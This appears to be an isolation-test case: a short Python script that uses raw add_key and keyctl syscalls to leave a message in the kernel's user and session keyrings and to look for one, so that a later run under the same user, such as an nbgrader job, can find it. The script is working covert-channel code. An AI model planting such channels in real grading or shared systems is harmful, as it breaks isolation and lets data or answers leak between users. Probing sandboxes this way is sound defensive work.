# attack: leaves a message in the kernel's key rings, which no namespace separates, and reads one
# on: empty
# harm: whoever runs next under the same user finds it (--trust, plain nbgrader)
# %%
import ctypes
import platform

ADD, CONTROL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (0, 0))
SEARCH, USER_RING, SESSION_RING = 10, -4, -3
libc = ctypes.CDLL(None, use_errno=True)
kind, name, message = b"user", b"glaucam-message", b"find_target_layer: features"
found = [
    ring
    for ring in (USER_RING, SESSION_RING)
    if libc.syscall(CONTROL, SEARCH, ring, kind, name, 0) > 0
]
left = [
    ring
    for ring in (USER_RING, SESSION_RING)
    if libc.syscall(ADD, kind, name, message, len(message), ring) > 0
]
